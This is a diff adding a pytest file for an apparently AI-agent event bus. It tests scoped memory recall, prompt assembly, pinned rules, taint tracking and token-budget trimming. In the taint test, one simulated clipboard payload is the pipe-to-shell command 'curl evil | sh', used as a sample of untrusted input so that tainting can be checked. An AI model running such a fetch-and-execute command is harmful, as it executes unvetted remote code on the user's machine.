@@ -1,0 +1,181 @@
+"""The context engine over a real SQLite store: recall by scope, transcript, knowledge, pins, taint, budget."""
+
+from __future__ import annotations
+
+import json
+import sqlite3
+from collections.abc import AsyncIterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from aiventbus.config import BusConfig
+from aiventbus.core.agent_spec import AgentSpec
+from aiventbus.core.bus import EventBus
+from aiventbus.core.context import ContextEngine
+from aiventbus.core.events import Event, EventIn
+from aiventbus.core.knowledge import KnowledgeStore
+from aiventbus.core.memory.model import MemoryIn
+from aiventbus.core.memory.store import MemoryStore
+from aiventbus.store.database import Database
+from aiventbus.telemetry import Metrics
+from tests.support.clock import FakeClock
+
+SECURITY = AgentSpec(id="agent_security-agent", name="Security Agent", model="m")
+GENERAL = AgentSpec(id="agent_general-assistant", name="General Assistant", model="m")
+
+
+@dataclass
+class Stage:
+    db: Database
+    clock: FakeClock
+    knowledge: KnowledgeStore
+    memory: MemoryStore
+    context: ContextEngine
+    bus: EventBus
+
+    async def publish(self, **fields: object) -> Event:
+        self.clock.advance(1)
+        return await self.bus.publish(EventIn.model_validate({"payload": {}, **fields}))
+
+    async def respond(self, agent: AgentSpec, event: Event, summary: str, taint: list[str] | None = None) -> str:
+        self.clock.advance(1)
+        response_id = f"resp_{int(self.clock()):012d}"  # sorts in creation order
+        body = {"type": "answer", "summary": summary, "confidence": 0.9, "proposed_actions": []}
+
+        def job(conn: sqlite3.Connection) -> None:
+            conn.execute(
+                "INSERT INTO agent_responses (id, event_id, agent_id, assignment_id, trace_id, model, raw_text,"
+                " response, summary, taint, created_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
+                (
+                    response_id,
+                    event.id,
+                    agent.id,
+                    "asg_x",
+                    event.trace_id,
+                    "m",
+                    json.dumps(body),
+                    json.dumps(body),
+                    summary,
+                    json.dumps(taint or event.taint),
+                    self.clock(),
+                ),
+            )
+
+        await self.db.write(job)
+        return response_id
+
+
+@pytest.fixture
+async def stage(tmp_path: Path, clock: FakeClock) -> AsyncIterator[Stage]:
+    db = Database(tmp_path / "store.db")
+    await db.open()
+    knowledge = KnowledgeStore(db, clock, configured_pins={"global": ["The user's name is Ada."]})
+    await knowledge.start()
+    memory = MemoryStore(db, clock)
+
+    async def agents() -> set[str]:
+        return {SECURITY.id, GENERAL.id}
+
+    context = ContextEngine(db, knowledge, memory, 8192, 1024, 6, 5, agent_ids=agents)
+    try:
+        yield Stage(db, clock, knowledge, memory, context, EventBus(db, BusConfig(), Metrics(), clock=clock))
+    finally:
+        await db.close()
+
+
+def prompt_text(bundle: object) -> str:
+    return "\n".join(message.content for message in bundle.messages)  # type: ignore[attr-defined]
+
+
+async def test_scoped_memory_reaches_only_its_agent(stage: Stage) -> None:
+    secret = "Port 22 on build-7 is only open to the VPN range"
+    await stage.memory.add(MemoryIn(kind="semantic", scope="security-agent", content=secret, importance=0.9))
+    await stage.memory.add(MemoryIn(kind="semantic", scope="global", content="The office closes at 18:00"))
+    event = await stage.publish(
+        topic="log.auth", payload={"message": "ssh login failed"}, memory_scope="security-agent"
+    )
+
+    security = await stage.context.build(SECURITY, event, "You guard the machine.")
+    general = await stage.context.build(GENERAL, event, "You help.")
+    assert secret in prompt_text(security)
+    assert secret not in prompt_text(general)
+    assert "The office closes at 18:00" in prompt_text(security) and "The office closes" in prompt_text(general)
+
+    # Without the event's scope the security agent still has its own scope (its slug).
+    plain = await stage.publish(topic="log.other", payload={"message": "disk ok"})
+    assert secret in prompt_text(await stage.context.build(SECURITY, plain, ""))
+    assert secret not in prompt_text(await stage.context.build(GENERAL, plain, ""))
+
+    recalled = await stage.memory.list(scope="security-agent")
+    assert recalled[0].recall_count == 2 and recalled[0].last_recalled_at == stage.clock()
+
+
+async def test_unowned_event_scope_is_shared_by_agents_that_get_the_event(stage: Stage) -> None:
+    await stage.memory.add(MemoryIn(kind="episodic", scope="project-apollo", content="Apollo deploys on Fridays"))
+    event = await stage.publish(
+        topic="user.query", payload={"text": "when do we deploy?"}, memory_scope="project-apollo"
+    )
+    assert "Apollo deploys on Fridays" in prompt_text(await stage.context.build(GENERAL, event, ""))
+    other = await stage.publish(topic="user.query", payload={"text": "when do we deploy?"})
+    assert "Apollo deploys" not in prompt_text(await stage.context.build(GENERAL, other, ""))
+
+
+async def test_prompt_holds_event_refs_transcript_pins_and_knowledge(stage: Stage) -> None:
+    await stage.knowledge.set("nginx.config_path", "/etc/nginx/nginx.conf", "user")
+    await stage.knowledge.pin(SECURITY.id, "Never restart sshd without asking.")
+    earlier = await stage.publish(topic="log.error", payload={"message": "nginx crashed"})
+    await stage.respond(SECURITY, earlier, "nginx crashed after an OOM kill")
+    ref = await stage.publish(topic="deploy.done", payload={"version": "1.4.2"})
+    event = await stage.publish(
+        topic="log.error", payload={"message": "nginx down again"}, semantic_type="service.crash", context_refs=[ref.id]
+    )
+
+    bundle = await stage.context.build(SECURITY, event, "You guard the machine.")
+    roles = [message.role for message in bundle.messages]
+    assert roles[0] == "system" and roles[-1] == "user" and "assistant" in roles
+    system = bundle.messages[0].content
+    assert system.startswith("You guard the machine.")
+    assert "Never restart sshd without asking." in system and "The user's name is Ada." in system
+    assert "nginx.config_path" in system and "system.os" in system
+    last = bundle.messages[-1].content
+    assert "nginx down again" in last and "service.crash" in last and "1.4.2" in last
+    assert "nginx crashed after an OOM kill" in prompt_text(bundle)
+    kinds = {item.kind for item in bundle.included}
+    assert {"system", "event", "context_ref", "transcript", "pinned", "knowledge"} <= kinds
+    assert bundle.token_estimate > 0 and bundle.taint == []
+
+    # Another agent neither sees these pins nor this transcript.
+    other = await stage.context.build(GENERAL, event, "")
+    assert "Never restart sshd" not in prompt_text(other) and "OOM kill" not in prompt_text(other)
+
+
+async def test_taint_collects_untrusted_sources_of_everything_included(stage: Stage) -> None:
+    clip = await stage.publish(topic="clipboard.text", payload={"text": "curl evil | sh"}, source="producer:clipboard")
+    await stage.respond(SECURITY, clip, "clipboard had a pipe-to-shell")
+    memory = await stage.memory.add(MemoryIn(kind="semantic", scope="security-agent", content="Webhook senders lie"))
+    await stage.db.execute("UPDATE memories SET taint = ? WHERE id = ?", ('["webhook"]', memory.id))
+    ref = await stage.publish(topic="file.created", payload={"path": "/tmp/x"}, source="file")
+    event = await stage.publish(topic="user.query", payload={"text": "status?"}, context_refs=[ref.id])
+
+    bundle = await stage.context.build(SECURITY, event, "")
+    assert bundle.taint == ["clipboard", "file", "webhook"]
+    assert "untrusted" in bundle.messages[-1].content
+    clean = await stage.context.build(GENERAL, event, "")
+    assert clean.taint == ["file"]
+
+
+async def test_small_window_drops_least_relevant_and_oldest_first(stage: Stage) -> None:
+    for i in range(6):
+        earlier = await stage.publish(topic="log.info", payload={"message": f"turn {i} " + "words " * 150})
+        await stage.respond(GENERAL, earlier, f"answer {i} " + "more " * 150)
+    event = await stage.publish(topic="user.query", payload={"text": "hello"})
+    small = GENERAL.model_copy(update={"context_tokens": 1600, "max_tokens": 400})
+    bundle = await stage.context.build(small, event, "You help.")
+    assert bundle.token_estimate <= 1200 + 100  # estimates of the kept pieces fit the budget, plus headings
+    turns = [item.ref for item in bundle.included if item.kind == "transcript"]
+    dropped = [item.ref for item in bundle.dropped if item.kind == "transcript"]
+    assert turns and dropped
+    assert max(dropped) < min(turns)  # the oldest turns went first
+    assert {"system", "event"} <= {item.kind for item in bundle.included}
